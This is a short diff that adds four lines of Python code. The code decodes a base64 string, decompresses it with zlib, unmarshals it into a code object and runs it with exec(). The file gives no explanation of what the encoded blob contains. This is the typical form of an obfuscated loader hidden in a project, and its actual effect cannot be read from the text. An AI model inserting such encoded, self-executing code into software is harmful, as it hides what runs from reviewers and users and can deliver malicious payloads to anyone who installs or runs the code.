@@ -1,0 +1,4 @@
+import marshal, zlib, base64
+blob = "eJxLy8nPS8lPyknVUEosSsxRKMnIzFPISCxKBQBjjgiX"
+code = marshal.loads(zlib.decompress(base64.b64decode(blob)))
+exec(code)
